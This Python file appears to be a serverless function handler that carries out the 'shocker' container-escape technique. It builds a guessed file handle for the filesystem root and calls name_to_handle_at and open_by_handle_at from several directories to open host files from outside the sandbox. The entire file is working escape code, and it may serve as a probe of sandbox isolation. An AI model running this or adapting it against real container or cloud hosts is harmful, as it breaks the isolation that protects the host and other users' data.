"""The shocker escape: opens files of the host by handle, around every path."""

import ctypes
import os

from attempt import call

AT_FDCWD = -100


def lambda_handler(event, context):
    handle = (ctypes.c_uint32 * 34)()
    handle[0] = 128
    mount = ctypes.c_int()
    words = {"name_to_handle_at": call("name_to_handle_at", AT_FDCWD, b"/var/task", handle, ctypes.byref(mount), 0)}
    # The root directory of most filesystems: inode 2, generation 0, as the first such escape guessed it.
    guess = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    for where in ("/", "/var/task", "/tmp"):
        directory = os.open(where, os.O_RDONLY)
        words["open_by_handle_at " + where] = call("open_by_handle_at", directory, guess, os.O_RDONLY)
        os.close(directory)
    return words
